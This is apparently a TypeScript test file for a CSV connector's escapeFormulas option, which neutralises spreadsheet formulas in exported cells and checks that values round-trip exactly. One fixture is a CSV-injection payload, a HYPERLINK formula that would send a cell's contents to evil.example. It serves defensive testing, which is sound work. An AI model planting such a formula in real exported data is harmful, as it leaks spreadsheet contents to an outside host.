// csv.escapeFormulas: for a file people open in a spreadsheet. A cell starting with = + - @ tab or
// CR (a formula to Excel or LibreOffice) is written with a leading ' and read back without it, so
// every value round-trips exactly ('=x and ''=x included, 't Hooft untouched). Off (the default)
// the file is written verbatim, as before.
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import fc from "fast-check";
import { loadConfigDirectory } from "../../../src/config/index.ts";
import { escapeFormula, unescapeFormula } from "../../../src/connectors/csv/schema.ts";
import { byAnchor, connector, importAll, tempDir } from "./helpers.ts";

const VALUES: Record<string, string> = {
  E1: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  E2: "+49 30 1234567",
  E3: "-2+3",
  E4: "@SUM(A1:A2)",
  E5: "\tTabbed",
  E6: "\rCarriage",
  E7: "'=already escaped by hand",
  E8: "''=two quotes",
  E9: "'t Hooft",
  E10: "plain",
};

function add(anchor: string, givenName: string) {
  return { op: "add" as const, id: anchor, objectType: "person", attrs: { employeeId: anchor, givenName } };
}

test("escapeFormulas writes formula-like cells with a leading ' and reads every value back exactly", async () => {
  const dir = tempDir();
  const c = connector(dir, { escapeFormulas: true });
  const results = await c.export(Object.entries(VALUES).map(([a, v]) => add(a, v)));
  assert.ok(results.every((r) => r.ok), JSON.stringify(results));
  const text = readFileSync(join(dir, "hr.csv"), "utf8");
  const cells = new Map(text.split("\n").slice(1).filter(Boolean).map((l) => [l.split(",")[0], l.slice(l.indexOf(",") + 1)]));
  // No cell a spreadsheet would run as a formula: each starts with ' (the CR one is quoted first).
  for (const anchor of ["E1", "E2", "E3", "E4", "E5", "E7", "E8"]) {
    assert.match(cells.get(anchor)!, /^"?'/, `${anchor}: ${cells.get(anchor)}`);
  }
  assert.ok(text.includes(`"'\rCarriage`), "a leading CR is escaped (and, holding a CR, quoted)");
  assert.equal(cells.get("E7")!.split(",")[0], "''=already escaped by hand");
  assert.equal(cells.get("E8")!.split(",")[0], "'''=two quotes");
  assert.equal(cells.get("E9")!.split(",")[0], "'t Hooft", "an apostrophe before ordinary text is left alone");
  assert.equal(cells.get("E10")!.split(",")[0], "plain");

  const { objects, problems } = await importAll(connector(dir, { escapeFormulas: true }));
  assert.deepEqual(problems, []);
  const read = byAnchor(objects);
  for (const [anchor, value] of Object.entries(VALUES)) assert.equal(read.get(anchor)?.attrs.givenName, value, anchor);
});

test("off by default: cells are written and read verbatim", async () => {
  const dir = tempDir();
  const c = connector(dir);
  await c.export([add("E1", "=1+2"), add("E2", "'=x")]);
  const text = readFileSync(join(dir, "hr.csv"), "utf8");
  assert.match(text, /^E1,=1\+2,/m);
  assert.match(text, /^E2,'=x,/m);
  const read = byAnchor((await importAll(connector(dir))).objects);
  assert.equal(read.get("E1")?.attrs.givenName, "=1+2");
  assert.equal(read.get("E2")?.attrs.givenName, "'=x");
});

test("reading a file another tool wrote: an apostrophe before a formula character is taken as the escape", async () => {
  const dir = tempDir();
  writeFileSync(join(dir, "hr.csv"), "employeeId,givenName,sn\nE1,'=SUM(A1),'t Hooft\nE2,=1+2,'-\nE3,'+49 30 1,''@x\n");
  const read = byAnchor((await importAll(connector(dir, { escapeFormulas: true }))).objects);
  assert.deepEqual(read.get("E1")?.attrs, { employeeId: "E1", givenName: "=SUM(A1)", sn: "'t Hooft" });
  // Unescaped formula cells (written by a tool that does not escape) are read as they are.
  assert.deepEqual(read.get("E2")?.attrs, { employeeId: "E2", givenName: "=1+2", sn: "-" });
  assert.deepEqual(read.get("E3")?.attrs, { employeeId: "E3", givenName: "+49 30 1", sn: "'@x" });
});

test("an export with escapeFormulas escapes the declared cells of rows it does not change too", async () => {
  const dir = tempDir();
  writeFileSync(join(dir, "hr.csv"), "employeeId,givenName,note\nE1,=1+2,=kept as is\n");
  const results = await connector(dir, { escapeFormulas: true }).export([add("E2", "Bo")]);
  assert.ok(results[0].ok);
  const text = readFileSync(join(dir, "hr.csv"), "utf8");
  assert.match(text, /^E1,'=1\+2,.*,=kept as is$/m, "declared column escaped; a column idsync does not know is someone else's data");
  const read = byAnchor((await importAll(connector(dir, { escapeFormulas: true }))).objects);
  assert.equal(read.get("E1")?.attrs.givenName, "=1+2", "the same value as before");
});

test("multi-valued and typed cells round-trip too", async () => {
  const dir = tempDir();
  const c = connector(dir, { escapeFormulas: true });
  const r = await c.export([{ op: "add", id: "1", objectType: "person", attrs: { employeeId: "E1", groups: ["=admins", "users"], age: -5 } }]);
  assert.ok(r[0].ok, JSON.stringify(r));
  const read = byAnchor((await importAll(connector(dir, { escapeFormulas: true }))).objects);
  assert.deepEqual(read.get("E1")?.attrs, { employeeId: "E1", groups: ["=admins", "users"], age: -5 });
});

test("escaping is exactly invertible for any string (property)", () => {
  const alphabet = fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "a", " ");
  fc.assert(
    fc.property(fc.array(alphabet, { maxLength: 8 }).map((a) => a.join("")), (s) => {
      const e = escapeFormula(s);
      assert.equal(unescapeFormula(e), s);
      assert.ok(!/^[=+\-@\t\r]/.test(e), `escaped ${JSON.stringify(s)} still starts with a formula character`);
    }),
    { numRuns: 2000 },
  );
});

test("the CRD takes csv.escapeFormulas", async () => {
  const dir = tempDir();
  writeFileSync(
    join(dir, "hr.yaml"),
    `apiVersion: idsync.dev/v1alpha1
kind: ManagementAgent
metadata: {name: hr}
spec:
  connector: {type: csv, csv: {path: hr.csv, escapeFormulas: true}}
  objectTypes: [{name: person, anchor: [employeeId], attributes: [{name: employeeId}]}]
`,
  );
  const loaded = await loadConfigDirectory(dir);
  assert.deepEqual(loaded.errors, []);
  assert.equal(loaded.config?.managementAgents[0].spec.connector.csv?.escapeFormulas, true);
});
